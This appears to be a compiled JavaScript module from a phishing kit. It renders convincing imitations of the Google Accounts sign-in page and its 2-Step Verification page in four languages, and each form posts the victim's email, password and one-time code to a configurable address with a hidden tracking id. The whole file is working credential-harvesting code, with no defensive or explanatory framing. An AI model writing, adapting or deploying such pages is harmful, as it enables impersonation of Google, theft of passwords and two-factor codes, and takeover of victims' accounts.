"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.signInPage = signInPage;
exports.codePage = codePage;
const esc = (s) => String(s).replace(/[&<>"']/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" }[c]));
const L = {
    en: { signin: "Sign in", cont: "to continue to", email: "Email or phone", pw: "Enter your password", next: "Next", code: "2-Step Verification", codeHint: "Enter the 6-digit code from your authenticator app or SMS" },
    fr: { signin: "Connexion", cont: "pour accéder à", email: "Adresse e-mail ou téléphone", pw: "Saisissez votre mot de passe", next: "Suivant", code: "Validation en deux étapes", codeHint: "Saisissez le code à 6 chiffres de votre application ou reçu par SMS" },
    it: { signin: "Accedi", cont: "per continuare su", email: "Indirizzo email o numero di telefono", pw: "Inserisci la password", next: "Avanti", code: "Verifica in due passaggi", codeHint: "Inserisci il codice a 6 cifre dall'app o ricevuto via SMS" },
    es: { signin: "Iniciar sesión", cont: "para ir a", email: "Correo electrónico o teléfono", pw: "Introduce tu contraseña", next: "Siguiente", code: "Verificación en dos pasos", codeHint: "Introduce el código de 6 dígitos de tu aplicación o SMS" },
};
function lang(h) { const l = String(h || "").slice(0, 2).toLowerCase(); return L[l] ? l : "en"; }
const STYLE = `body{font-family:"Google Sans",Roboto,Arial,sans-serif;background:#fff;display:flex;justify-content:center;margin-top:8vh}
.card{width:450px;border:1px solid #dadce0;border-radius:8px;padding:48px 40px 36px}
.logo{font-size:24px;letter-spacing:-1px}.logo b:nth-child(1){color:#4285f4}.logo b:nth-child(2){color:#ea4335}.logo b:nth-child(3){color:#fbbc05}.logo b:nth-child(4){color:#4285f4}.logo b:nth-child(5){color:#34a853}.logo b:nth-child(6){color:#ea4335}
h1{font-weight:400;font-size:24px;margin:16px 0 8px}p{color:#202124}
input{width:100%;box-sizing:border-box;padding:13px 15px;font-size:16px;border:1px solid #dadce0;border-radius:4px;margin:24px 0 8px}
button{float:right;background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 24px;font-size:14px;cursor:pointer}`;
function signInPage(opts) {
    const t = L[lang(opts.lang)];
    return `<!doctype html><html lang="${lang(opts.lang)}"><head><meta charset="utf-8"><title>${t.signin} – Google Accounts</title>
<meta name="viewport" content="width=device-width,initial-scale=1"><style>${STYLE}</style></head><body><div class="card">
<div class="logo"><b>G</b><b>o</b><b>o</b><b>g</b><b>l</b><b>e</b></div>
<h1>${t.signin}</h1><p>${t.cont} ${esc(opts.org || "Google Workspace")}</p>
<form method="post" action="${esc(opts.action)}" autocomplete="on">
<input type="hidden" name="rid" value="${esc(opts.rid)}">
<input name="identifier" type="email" placeholder="${t.email}" value="${esc(opts.hint || "")}" required autofocus>
<input name="Passwd" type="password" placeholder="${t.pw}" required>
<button type="submit">${t.next}</button></form></div></body></html>`;
}
function codePage(opts) {
    const t = L[lang(opts.lang)];
    return `<!doctype html><html><head><meta charset="utf-8"><title>${t.code}</title><style>${STYLE}</style></head><body><div class="card">
<div class="logo"><b>G</b><b>o</b><b>o</b><b>g</b><b>l</b><b>e</b></div><h1>${t.code}</h1><p>${t.codeHint}</p>
<form method="post" action="${esc(opts.action)}"><input type="hidden" name="rid" value="${esc(opts.rid)}">
<input name="totpPin" inputmode="numeric" pattern="[0-9]{6,8}" placeholder="G-" required autofocus><button type="submit">${t.next}</button></form></div></body></html>`;
}
//# sourceMappingURL=pages.js.map
